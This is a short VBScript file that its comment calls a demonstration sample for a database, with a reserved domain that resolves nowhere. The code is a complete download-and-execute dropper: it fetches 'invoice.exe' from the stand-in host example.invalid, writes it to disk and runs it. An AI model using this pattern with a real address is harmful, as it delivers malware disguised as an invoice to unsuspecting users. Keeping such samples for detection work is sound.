' Demonstration sample for the default database: never run it. The address
' is in a reserved domain that resolves nowhere.
Set http = CreateObject("MSXML2.XMLHTTP")
http.Open "GET", "http://example.invalid/invoice.exe", False
http.Send
Set stream = CreateObject("ADODB.Stream")
stream.Type = 1
stream.Open
stream.Write http.responseBody
stream.SaveToFile "invoice.exe", 2
CreateObject("WScript.Shell").Run "invoice.exe"
